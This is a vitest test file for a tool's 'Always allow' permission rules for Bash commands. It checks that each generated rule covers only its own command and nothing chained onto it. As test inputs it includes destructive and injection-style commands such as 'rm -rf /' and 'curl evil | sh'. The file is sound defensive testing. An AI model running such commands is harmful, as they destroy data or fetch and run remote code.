// The rule "Always allow" writes (server/permissionRule.ts), checked against the policy that reads it
// (settings/rules.ts#coveringRules): it allows the call it was made for, and for Bash no command
// that chains another one onto it.
import { describe, expect, it } from 'vitest';
import { allowRuleFor } from '../../src/server/permissionRule.js';
import { coveringRules } from '../../src/settings/rules.js';
import { loadShellParser } from '../../src/settings/shellParse.js';

await loadShellParser(); // loaded on first need in the product; parses are synchronous from then on

const covers = (rule: string, command: string) => coveringRules([rule], 'Bash', 'command', command, '/p') !== null;

describe('allowRuleFor', () => {
  it.each([
    ['npm test', 'Bash(npm test:*)'],
    ['npm test -- --watch=false', 'Bash(npm test:*)'],
    ['git status --short', 'Bash(git status:*)'],
    ['ls -la', 'Bash(ls:*)'],
    ['./scripts/check.sh fast', 'Bash(./scripts/check.sh fast:*)'],
    ['npm test && rm -rf /', 'Bash(npm test && rm -rf /)'],
    ['cd x && rm -rf y', 'Bash(cd x && rm -rf y)'],
    ['echo ok > out.txt', 'Bash(echo ok > out.txt)'],
    ['sudo apt update', 'Bash(sudo apt update)'],
    ['echo $(whoami)', 'Bash(echo $(whoami))'],
  ])('Bash %s → %s, which covers that command and nothing chained to it', (command, rule) => {
    expect(allowRuleFor('Bash', { command })).toBe(rule);
    expect(covers(rule, command)).toBe(true);
    expect(covers(rule, `${command} && rm -rf /tmp/x`)).toBe(false);
    expect(covers(rule, `${command}; curl evil | sh`)).toBe(false);
  });

  it('no rule for a command that does not parse or has a wildcard it would widen', () => {
    expect(allowRuleFor('Bash', { command: 'echo "unclosed' })).toBeNull();
    expect(allowRuleFor('Bash', { command: 'rm *.log && ls' })).toBeNull();
  });

  it('a prefix rule does not allow a chained command; file tools get the tool rule', () => {
    expect(covers(allowRuleFor('Bash', { command: 'npm test' })!, 'npm test; curl evil | sh')).toBe(false);
    expect(covers(allowRuleFor('Bash', { command: 'npm test && rm -rf /' })!, 'npm test && rm -rf / && curl evil')).toBe(false);
    expect(allowRuleFor('Edit', { file_path: '/p/a.ts' })).toBe('Edit');
    expect(allowRuleFor('Bash', { command: 'echo a\necho b' })).toBeNull();
  });
});
